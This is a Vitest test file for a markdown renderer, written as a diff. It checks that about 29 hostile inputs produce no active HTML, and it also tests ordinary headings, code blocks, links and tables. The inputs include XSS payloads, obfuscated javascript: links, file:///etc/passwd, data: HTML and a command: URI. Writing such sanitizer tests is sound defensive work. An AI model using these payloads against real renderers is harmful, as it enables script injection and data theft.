@@ -1,0 +1,124 @@
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from './renderMarkdown';
+
+/** Parses the output like the webview will (innerHTML) so assertions are about the DOM, not string shapes. */
+function toDom(markdown: string): HTMLElement {
+  const container = document.createElement('div');
+  container.innerHTML = renderMarkdown(markdown);
+  return container;
+}
+
+/** Everything in the output that could run script, load a resource or navigate somewhere unsafe. */
+function activeHtml(container: HTMLElement): string[] {
+  const found: string[] = [];
+  for (const el of container.querySelectorAll('*')) {
+    const tag = el.tagName.toLowerCase();
+    if (['script', 'iframe', 'img', 'object', 'embed', 'style', 'link', 'meta', 'form', 'svg', 'base'].includes(tag)) {
+      found.push(`<${tag}>`);
+    }
+    for (const attr of el.getAttributeNames()) {
+      if (attr.startsWith('on') || attr === 'style' || attr === 'src' || attr === 'srcdoc')
+        found.push(`${tag}[${attr}]`);
+    }
+    const href = el.getAttribute('href');
+    if (href !== null && !/^(https?|mailto):/i.test(href)) found.push(`${tag}[href=${href}]`);
+  }
+  return found;
+}
+
+describe('renderMarkdown security', () => {
+  const hostile: [name: string, markdown: string][] = [
+    ['script tag', '<script>alert(1)</script>'],
+    ['inline script between text', 'hello <script src="https://evil.example/x.js"></script> world'],
+    ['img onerror', '<img src=x onerror=alert(1)>'],
+    ['iframe', '<iframe src="https://evil.example"></iframe>'],
+    ['svg onload', '<svg onload=alert(1)>'],
+    ['html block', '<div onclick="alert(1)">\n\n*md*\n\n</div>'],
+    ['raw anchor with javascript:', '<a href="javascript:alert(1)">x</a>'],
+    ['javascript: link', '[click](javascript:alert(1))'],
+    ['mixed-case scheme', '[click](JaVaScRiPt:alert(1))'],
+    ['scheme with leading spaces', '[click](   javascript:alert(1))'],
+    ['scheme split by a newline', '[click](java\nscript:alert(1))'],
+    ['scheme split by a tab entity', '[click](java&#9;script:alert(1))'],
+    ['entity-encoded scheme', '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))'],
+    ['hex-entity colon', '[click](javascript&#x3A;alert(1))'],
+    ['named-entity colon', '[click](javascript&colon;alert(1))'],
+    ['percent-encoded scheme', '[click](%6Aavascript:alert(1))'],
+    ['angle-bracket destination', '[click](<javascript:alert(1)>)'],
+    ['autolink', '<javascript:alert(1)>'],
+    ['reference link', '[click][r]\n\n[r]: javascript:alert(1)'],
+    ['vbscript', '[click](vbscript:msgbox(1))'],
+    ['file', '[click](file:///etc/passwd)'],
+    ['data: html', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
+    ['data: image (allowed by markdown-it for images)', '[click](data:image/png;base64,iVBORw0KGgo=)'],
+    ['image with data:', '![x](data:image/png;base64,iVBORw0KGgo=)'],
+    ['remote image (no network calls from model text)', '![tracker](https://evil.example/pixel.png?secret=1)'],
+    ['command uri', '[click](command:workbench.action.terminal.new)'],
+    ['link title breakout', '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")'],
+    ['code fence info breakout', '```"><img src=x onerror=alert(1)>\ncode\n```'],
+    ['html inside a table cell', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
+  ];
+
+  it.each(hostile)('%s produces no active HTML', (_name, markdown) => {
+    expect(activeHtml(toDom(markdown))).toEqual([]);
+  });
+
+  it('keeps hostile raw HTML visible as text', () => {
+    const dom = toDom('<script>alert(1)</script>');
+    expect(dom.textContent).toContain('<script>alert(1)</script>');
+  });
+});
+
+describe('renderMarkdown rendering', () => {
+  it('renders headings, emphasis and lists', () => {
+    const dom = toDom('# Title\n\n## Sub\n\nsome **bold** and _it_\n\n- one\n- two\n\n1. first\n2. second');
+    expect(dom.querySelector('h1')?.textContent).toBe('Title');
+    expect(dom.querySelector('h2')?.textContent).toBe('Sub');
+    expect(dom.querySelector('strong')?.textContent).toBe('bold');
+    expect(dom.querySelector('em')?.textContent).toBe('it');
+    expect([...dom.querySelectorAll('ul > li')].map((li) => li.textContent)).toEqual(['one', 'two']);
+    expect([...dom.querySelectorAll('ol > li')].map((li) => li.textContent)).toEqual(['first', 'second']);
+  });
+
+  it('renders a fenced code block escaped, with its language class and a copy button', () => {
+    const dom = toDom('```ts\nconst a: Array<string> = ["<b>"];\n```');
+    const code = dom.querySelector('.code-block pre > code');
+    expect(code?.className).toBe('language-ts');
+    expect(code?.textContent).toBe('const a: Array<string> = ["<b>"];\n');
+    expect(dom.querySelector('b')).toBeNull();
+    expect(dom.querySelector('.code-block > button[data-action="copy-code"]')?.getAttribute('type')).toBe('button');
+  });
+
+  it('renders inline code escaped', () => {
+    const dom = toDom('use `<div>` here');
+    expect(dom.querySelector('code')?.textContent).toBe('<div>');
+  });
+
+  it('renders links with rel="noopener noreferrer"', () => {
+    const dom = toDom('[docs](https://example.com/docs "Docs") and mail [me](mailto:me@example.com)');
+    const links = [...dom.querySelectorAll('a')];
+    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/docs', 'mailto:me@example.com']);
+    expect(links.map((a) => a.getAttribute('rel'))).toEqual(['noopener noreferrer', 'noopener noreferrer']);
+    expect(links[0]?.getAttribute('title')).toBe('Docs');
+  });
+
+  it('linkifies explicit URLs but not file names', () => {
+    const dom = toDom('see https://example.com/a?b=1 and README.md or setup.py');
+    const links = [...dom.querySelectorAll('a')];
+    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1']);
+    expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it('renders tables', () => {
+    const dom = toDom('| name | score |\n|---|---:|\n| a | 1 |\n| b | 2 |');
+    expect([...dom.querySelectorAll('thead th')].map((th) => th.textContent)).toEqual(['name', 'score']);
+    expect([...dom.querySelectorAll('tbody tr')].map((tr) => tr.textContent?.replace(/\s+/g, ''))).toEqual([
+      'a1',
+      'b2',
+    ]);
+  });
+
+  it('leaves typography alone (typographer off)', () => {
+    expect(toDom('"quotes" -- and (c)').querySelector('p')?.textContent).toBe('"quotes" -- and (c)');
+  });
+});
